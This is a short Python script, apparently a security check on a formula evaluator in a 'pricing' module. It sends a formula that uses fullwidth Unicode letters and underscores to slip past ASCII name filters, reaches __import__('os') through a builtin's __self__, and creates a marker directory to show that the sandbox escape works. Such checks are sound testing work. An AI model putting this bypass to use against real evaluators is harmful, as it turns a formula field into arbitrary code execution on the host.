"""Python folds wide underscores and letters in names: ascii filters do not see them."""

import random
import string
import sys
from contextlib import suppress
from pathlib import Path

from pricing import FormulaError, evaluate

SEED = 0

rng = random.Random(SEED)
marker, field = ("".join(rng.choices(string.ascii_letters, k=rng.randint(4, 9))) for _ in range(2))


def wide(name):
    """Return the name with every second underscore and one letter of it wide."""
    at = rng.choice([place for place, letter in enumerate(name) if letter != "_"])
    name = name.replace("__", "_\uff3f")
    return name[:at] + chr(ord(name[at]) + 0xFEE0) + name[at + 1 :]


function = rng.choice(("round", "min", "max", "abs"))
with suppress(FormulaError, ValueError, AttributeError, SyntaxError, LookupError, TypeError, NameError):
    evaluate(
        f"{function}.{wide('__self__')}.{wide('__import__')}('o' 's').mkdir('{marker}') or 1", {field: 1}
    )
sys.exit(0 if Path(marker).exists() else 1)
